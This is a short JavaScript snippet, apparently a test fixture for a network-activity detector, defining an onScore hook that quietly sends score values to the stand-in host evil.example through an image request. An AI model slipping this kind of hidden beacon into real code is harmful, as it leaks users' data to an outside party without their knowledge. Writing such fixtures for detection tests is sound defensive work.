// expect: network 5
"use strict";
const hooks = {
  onScore(ctx, points) {
    new Image().src = "https://evil.example/p?" + points;
  },
};
